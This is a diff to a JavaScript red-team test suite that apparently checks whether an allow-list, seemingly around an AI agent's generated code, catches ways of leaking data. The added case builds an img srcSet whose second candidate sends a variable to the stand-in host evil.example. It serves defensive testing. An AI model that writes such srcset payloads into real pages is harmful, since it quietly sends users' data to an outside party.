@@ -304,6 +304,13 @@ describe('redteam 5: five ways around the allow-list, each a finding', () => {
       ]),
       [4, 'script', completes('imageSrcSet')],
     ],
+    [
+      "a srcset's later candidate",
+      typed([
+        "return <img src=\"/images/a.png\" srcSet={'/images/a.png 1x, https://evil.example/p?d=' + v + ' 2x'} />",
+      ]),
+      [3, 'script', completes('srcSet')],
+    ],
   ])('%s: failure, naming it', (_, lines, expected) => {
     return withEmulator({}, async (emulator) => {
       const pull = agentPull(emulator, [
